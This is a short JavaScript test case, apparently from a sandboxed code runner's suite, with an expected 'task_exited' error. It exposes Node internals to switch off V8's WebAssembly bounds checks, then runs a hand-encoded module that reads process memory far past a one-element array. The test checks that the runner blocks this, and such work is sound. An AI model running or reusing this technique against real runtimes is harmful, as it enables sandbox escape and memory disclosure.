// Has V8 leave out the bounds checks of WebAssembly's arrays, past all that the guest has patched, and reads the memory of
// the process far beyond one.
// answers: 500 task_exited
const { Worker } = require("node:worker_threads");
const text = `
  const { internalBinding } = require("internal/test/binding");
  internalBinding("v8").setFlagsFromString("--experimental-wasm-skip-bounds-checks");
  const code = [0x41, 1, 0xfb, 7, 0, 0x20, 0, 0xfb, 0x0b, 0, 0x0b];
  const bytes = Uint8Array.of(
    0, 97, 115, 109, 1, 0, 0, 0, 1, 9, 2, 0x5e, 0x7f, 1, 0x60, 1, 0x7f, 1, 0x7f, 3, 2, 1, 1, 7, 5, 1, 1, 103, 0, 0,
    10, code.length + 3, 1, code.length + 1, 0, ...code,
  );
  const { g: read } = new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports;
  require("node:worker_threads").parentPort.postMessage([1, 100, 1_000].map((index) => read(index) >>> 0));
`;
const worker = new Worker(text, { eval: true, execArgv: ["--expose-internals"] });
return new Promise((resolve, reject) => worker.on("message", resolve).on("error", reject));
